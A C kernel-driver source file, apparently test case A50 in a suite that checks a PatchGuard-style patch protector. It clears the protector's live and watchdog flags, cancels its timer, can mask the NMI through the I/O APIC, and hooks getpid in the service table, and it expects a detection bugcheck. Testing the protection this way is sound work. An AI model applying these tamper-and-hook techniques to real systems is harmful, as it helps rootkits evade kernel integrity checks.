/* attack_a50_freeze (A50): switch PatchGuard off through its own flags.
 * Clears the "live" flag of its state (attack_pg.h: the tick hook, the
 * watchdog and the piggy-back return at once, and a context opens without
 * comparing the schedule), clears the NMI watchdog's "armed" flag (the NMI
 * returns after its heartbeat), cancels its timer with the exported
 * timer_cancel, then hooks getpid as attack_a1: nothing that reads those
 * flags runs a pass again. With `nmi`, the NMI watchdog is silenced at its
 * source instead of by its flag: the I/O APIC's redirection entry of pin 2
 * (the PIT as NMI), found by its frame as attack_a49 does, is masked; only
 * the tick hook and the PIT watchdog, switched off by "live", would see
 * that. Expected: 0x109 type 0x101 (the triggers keep their own record
 * that they were started) or 0xA. */
#include "attack_pg.h"

#define IOAPIC_FRAME 0xFEC00000ull
#define IOAPIC_REDIR_PIN2 0x14
#define REDIR_MASKED (1u << 16)

static bool mask_nmi(void)
{
	for (uint64_t va = KPP_MMIO_AREA_BASE; va < KPP_MMIO_AREA_BASE + 256 * A_PAGE; va += A_PAGE) {
		uint64_t pte = vm_pte(va);
		if (!(pte & A_PTE_P) || (pte & A_PTE_ADDR) != IOAPIC_FRAME)
			continue;
		volatile uint32_t *io = (volatile uint32_t *)va;
		io[0] = IOAPIC_REDIR_PIN2;
		io[4] |= REDIR_MASKED;
		return true;
	}
	return false;
}

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	struct pg_state *pg = a_find_pg();
	uint64_t *table = a_find_service_table();
	if (!pg || !table) {
		printk("attack_a50: PatchGuard's state or the service table not found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	bool nmi = !strcmp(drv->args, "nmi");
	pg->live = false;
	if (nmi && !mask_nmi()) {
		printk("attack_a50: I/O APIC not mapped\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	if (!nmi)
		pg->nmi_armed = false;
	pg->wd_armed = false;
	timer_cancel(pg->timer);
	uint64_t hook = (uint64_t)&hooked_getpid;
	a_write_protected(&table[KPP_SYS_GET_PID], &hook, sizeof hook);
	if (nmi)
		printk("attack_a50: PatchGuard's live flag cleared, the NMI's I/O APIC entry masked, its timer cancelled, getpid hooked\n");
	else
		printk("attack_a50: PatchGuard's live and armed flags cleared, its timer cancelled, getpid hooked\n");
	a_patched("attack_a50");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
